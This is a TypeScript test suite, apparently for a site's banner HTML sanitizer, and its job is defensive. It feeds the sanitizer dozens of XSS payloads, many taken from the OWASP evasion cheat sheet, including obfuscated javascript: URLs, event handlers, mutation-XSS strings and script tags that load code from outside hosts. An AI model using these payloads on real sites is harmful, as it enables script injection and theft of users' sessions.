import fc from 'fast-check';
import {
  defaultTreeAdapter,
  html as htmlSpec,
  parseFragment,
  type DefaultTreeAdapterTypes,
} from 'parse5';
import { describe, expect, it } from 'vitest';
import { BANNER_TAGS, sanitizeBannerHtml } from './banner-html';

type Node = DefaultTreeAdapterTypes.ChildNode | DefaultTreeAdapterTypes.DocumentFragment;
type Element = DefaultTreeAdapterTypes.Element;

/** Every element of `html` as a browser would build it (parse5 follows the HTML standard). */
function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const walk = (node: Node) => {
    if ('tagName' in node) found.push(node);
    if ('content' in node) walk(node.content);
    if ('childNodes' in node) node.childNodes.forEach(walk);
  };
  walk(parseFragment(defaultTreeAdapter.createElement('div', htmlSpec.NS.HTML, []), html, {}));
  return found;
}

const ALLOWED_ATTRIBUTES: Record<string, string[]> = { a: ['href', 'target', 'rel', 'style'] };
const SAFE_SCHEMES = ['http:', 'https:', 'mailto:'];

/**
 * What a browser would make of `html` breaks no rule of spec 01 §5: only allowed tags and
 * attributes, no handler, no data attribute, no link but http, https and mailto, no style
 * that loads or runs anything, and rel="noopener noreferrer" on links to other sites.
 */
function problemsIn(html: string): string[] {
  const problems: string[] = [];
  for (const element of elementsOf(html)) {
    if (!(BANNER_TAGS as readonly string[]).includes(element.tagName))
      problems.push(`tag <${element.tagName}>`);
    const allowed = ALLOWED_ATTRIBUTES[element.tagName] ?? ['style'];
    for (const { name, value } of element.attrs) {
      if (!allowed.includes(name)) problems.push(`attribute ${name} on <${element.tagName}>`);
      if (name === 'href') {
        const url = new URL(value, 'https://kindred.test/');
        if (!SAFE_SCHEMES.includes(url.protocol)) problems.push(`href ${value}`);
        const rel = element.attrs.find((a) => a.name === 'rel')?.value.split(' ') ?? [];
        if (
          url.origin !== 'https://kindred.test' &&
          url.protocol !== 'mailto:' &&
          !(rel.includes('noopener') && rel.includes('noreferrer'))
        )
          problems.push(`link to ${value} without rel="noopener noreferrer"`);
      }
      if (name === 'style' && /url\(|expression|javascript|@import|\\|var\(|image/i.test(value))
        problems.push(`style ${value}`);
    }
  }
  return problems;
}

describe('sanitizeBannerHtml (spec 01 §5)', () => {
  it('keeps the markup a banner may carry as it is', () => {
    const html =
      '<h2>Summer gathering</h2><p><strong>Bold</strong>, <b>b</b>, <em>em</em>, <i>i</i>, ' +
      '<u>u</u><br>and <span style="color:#1f3518">colour</span></p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quote</blockquote>' +
      '<div style="text-align:center;margin:0 auto;padding-left:8px;font-weight:700">' +
      '<h1>a</h1><h3>b</h3><h4>c</h4><h5>d</h5><h6>e</h6></div>' +
      '<p><a href="/about">About</a> <a href="mailto:hello@kindred.test">mail</a></p>';
    expect(sanitizeBannerHtml(html)).toBe(html);
  });

  it('gives links to other sites rel="noopener noreferrer", and keeps target _blank', () => {
    expect(sanitizeBannerHtml('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeBannerHtml('<a href="HTTP://example.com" rel="nofollow opener">x</a>')).toBe(
      '<a href="HTTP://example.com" rel="noopener noreferrer nofollow">x</a>',
    );
    // A link within Kindred keeps the referrer; only the words allowed stay.
    expect(sanitizeBannerHtml('<a href="/events" rel="nofollow  bogus">x</a>')).toBe(
      '<a href="/events" rel="nofollow">x</a>',
    );
    expect(sanitizeBannerHtml('<a href="/events" target="_top">x</a>')).toBe(
      '<a href="/events">x</a>',
    );
  });

  it.each([
    ['a script', '<script>alert(1)</script>Hello', 'Hello'],
    ['a script in capitals', '<SCRIPT SRC=//x.test/x.js></SCRIPT>Hi', 'Hi'],
    ['an onerror handler', '<img src=x onerror=alert(1)>Hi', 'Hi'],
    ['handlers on allowed tags', '<p onclick="alert(1)" onmouseover=x>Hi</p>', '<p>Hi</p>'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>', '<span>x</span>'],
    ['a mixed-case javascript: link', '<a href="JaVaScRiPt:alert(1)">x</a>', '<span>x</span>'],
    [
      'a javascript: link split by a tab',
      '<a href="java&#x09;script:alert(1)">x</a>',
      '<span>x</span>',
    ],
    [
      'a javascript: link behind spaces',
      '<a href=" &#14;  javascript:alert(1)">x</a>',
      '<span>x</span>',
    ],
    ['a zero-padded entity', '<a href="&#0000106avascript:alert(1)">x</a>', '<span>x</span>'],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', '<span>x</span>'],
    ['a data: URL', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<span>x</span>'],
    ['a protocol-relative link', '<a href="//evil.test/x">x</a>', '<span>x</span>'],
    [
      'a style with url()',
      '<p style="background-color:url(javascript:alert(1));color:red">x</p>',
      '<p style="color:red">x</p>',
    ],
    ['a style with expression()', '<p style="color:expression(alert(1))">x</p>', '<p>x</p>'],
    ['a background image', '<p style="background-image:url(x.png)">x</p>', '<p>x</p>'],
    [
      'a style that is not colour, text or spacing',
      '<p style="position:fixed;top:0">x</p>',
      '<p>x</p>',
    ],
    ['a negative margin', '<p style="margin-top:-500px">x</p>', '<p>x</p>'],
    ['data attributes', '<p data-x="1" data-bind="click: run">x</p>', '<p>x</p>'],
    ['class and id', '<p class="hidden" id="main">x</p>', '<p>x</p>'],
    [
      'tags nested inside disallowed ones',
      '<div><table><tr><td><b>bold</b><form><input value=x></form></td></tr></table></div>',
      '<div><b>bold</b></div>',
    ],
    ['an iframe', '<iframe src="https://evil.test">inside</iframe>after', 'after'],
    ['a style sheet', '<style>body{display:none}</style>Hi', 'Hi'],
    ['svg with a script', '<svg><script>alert(1)</script><g onload=alert(1)>x</g></svg>', 'x'],
    [
      'svg animating a link to javascript:',
      '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text>go</text></a></svg>',
      // The link's text stays, as plain text: no link the animation would have made (issue 21).
      '<span>go</span>',
    ],
    ['math mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    ['a textarea breakout', '<textarea></textarea/><img src=x onerror=alert(1)>Hi', 'Hi'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">Hi', 'Hi'],
    ['a base tag', '<base href="javascript:alert(1)//">Hi', 'Hi'],
    ['an object', '<object data="javascript:alert(1)">inside</object>Hi', 'Hi'],
    ['a comment hiding a script', '<!--<script>alert(1)</script>-->Hi', 'Hi'],
    ['a broken attribute quote', '<p title="x"onmouseover="alert(1)">Hi</p>', '<p>Hi</p>'],
  ])('removes %s', (_name, dirty, clean) => {
    expect(sanitizeBannerHtml(dirty)).toBe(clean);
  });

  // The OWASP XSS filter evasion cheat sheet's vectors that still mean something in HTML5.
  const OWASP = [
    `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
    `<IMG SRC="javascript:alert('XSS');">`,
    `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
    `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
    `<a onmouseover="alert(document.cookie)">xxs link</a>`,
    `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
    `<IMG SRC=# onmouseover="alert('xxs')">`,
    `<IMG onmouseover="alert('xxs')">`,
    `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
    `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>`,
    `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>`,
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>`,
    `<a href="jav\tascript:alert('XSS');">x</a>`,
    `<a href="jav&#x09;ascript:alert('XSS');">x</a>`,
    `<a href="jav&#x0A;ascript:alert('XSS');">x</a>`,
    `<a href="jav&#x0D;ascript:alert('XSS');">x</a>`,
    `<a href=" &#14;  javascript:alert('XSS');">x</a>`,
    `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
    `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
    `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
    `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
    `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
    `<iframe src=http://xss.rocks/scriptlet.html <`,
    `\\";alert('XSS');//`,
    `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
    `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
    `<BODY BACKGROUND="javascript:alert('XSS')">`,
    `<IMG DYNSRC="javascript:alert('XSS')">`,
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
    `<svg/onload=alert('XSS')>`,
    `<BODY ONLOAD=alert('XSS')>`,
    `<BGSOUND SRC="javascript:alert('XSS');">`,
    `<BR SIZE="&{alert('XSS')}">`,
    `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
    `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
    `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
    `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
    `<p STYLE="xss:expr/*XSS*/ession(alert('XSS'))">x</p>`,
    `<p style="color:e&#x78;pression(alert(1))">x</p>`,
    `<p style="background-color:\\75rl(javascript:alert(1))">x</p>`,
    `<span style="color: red; background-color: url('javascript:alert(1)')">x</span>`,
    `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
    `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">x</DIV>`,
    `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`,
    `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
    `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
    `<TABLE BACKGROUND="javascript:alert('XSS')">`,
    `<BASE HREF="javascript:alert('XSS');//">`,
    `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
    `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">x</a>`,
    `<A HREF="http://66.102.7.147/">XSS</A>`,
    `<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>`,
    `<A HREF="//www.google.com/">XSS</A>`,
    `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
    `<a href="javascript&colon;alert(1)">x</a>`,
    `<a href="javas&#99;ript:alert(1)">x</a>`,
    `<div data-bind="html: evil" data-x-y="1" x-data="{}" @click="alert(1)">x</div>`,
    `<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `<a href="https://example.com" target="_blank" onclick="alert(1)">ok</a>`,
  ];

  it.each(OWASP.map((vector, i) => [i, vector]))(
    'leaves no script, handler, javascript: or data attribute in OWASP vector %i',
    (_i, vector) => {
      const clean = sanitizeBannerHtml(vector);
      expect(problemsIn(clean), clean).toEqual([]);
      expect(clean).not.toMatch(/<script|<[^>]*(?:javascript:|\son\w+=|\sdata-)/i);
      expect(sanitizeBannerHtml(clean)).toBe(clean);
    },
  );

  const TAGS = [...BANNER_TAGS, 'script', 'img', 'svg', 'math', 'iframe', 'style', 'textarea'];
  const TAGS_MORE = [...TAGS, 'table', 'td', 'noscript', 'template', 'object', 'base', 'mglyph'];
  const ATTRIBUTES = ['href', 'target', 'rel', 'style', 'onerror', 'onclick', 'data-x', 'src'];
  const VALUES = [
    'javascript:alert(1)',
    ' JaVa\tScRiPt:alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'https://example.com',
    'HTTPS://example.com/x?y=1',
    '/about',
    'mailto:hi@kindred.test',
    '_blank',
    'noopener',
    'color:red',
    'color:red;background:url(javascript:alert(1))',
    'margin:0 auto;expression(alert(1))',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '',
  ];

  /** HTML as a hostile author might write it: known tags and attributes, broken or not. */
  const hostileHtml: fc.Arbitrary<string> = fc.letrec<{ node: string; nodes: string }>((tie) => ({
    node: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      fc.constantFrom('text', 'a < b', 'a & b', '&lt;script&gt;', '"quoted"', '</p>', '<', '>'),
      fc
        .tuple(
          fc.constantFrom(...TAGS_MORE),
          fc.array(fc.tuple(fc.constantFrom(...ATTRIBUTES), fc.constantFrom(...VALUES)), {
            maxLength: 3,
          }),
          tie('nodes'),
          fc.boolean(),
        )
        .map(([tag, attrs, inner, close]) => {
          const attributes = attrs.map(([k, v]) => ` ${k}="${v.replace(/"/g, '&quot;')}"`);
          return `<${tag}${attributes.join('')}>${inner}${close ? `</${tag}>` : ''}`;
        }),
    ),
    nodes: fc.array(tie('node'), { maxLength: 4 }).map((parts) => parts.join('')),
  })).nodes;

  /** Raw characters of HTML and of the words attacks use, in any order. */
  const htmlSoup = fc
    .array(
      fc.constantFrom(
        '<',
        '>',
        '/',
        '"',
        "'",
        '=',
        ' ',
        '&',
        '#',
        ';',
        'a',
        'href',
        'script',
        'javascript:',
        'onerror',
        'data-',
        'style',
        'url(',
        'svg',
        '!--',
        'p',
      ),
      { maxLength: 40 },
    )
    .map((parts) => parts.join(''));

  it('never lets generated HTML through with a script, a handler, a javascript: URL or a data attribute', () => {
    fc.assert(
      fc.property(fc.oneof(hostileHtml, htmlSoup), (dirty) => {
        const clean = sanitizeBannerHtml(dirty);
        expect(problemsIn(clean), `${dirty}\n=> ${clean}`).toEqual([]);
      }),
      { numRuns: 1500, seed: 12 },
    );
  });

  it('changes nothing the second time: sanitising twice equals sanitising once', () => {
    fc.assert(
      fc.property(fc.oneof(hostileHtml, htmlSoup), (dirty) => {
        const once = sanitizeBannerHtml(dirty);
        expect(sanitizeBannerHtml(once)).toBe(once);
      }),
      { numRuns: 1500, seed: 13 },
    );
  });
});
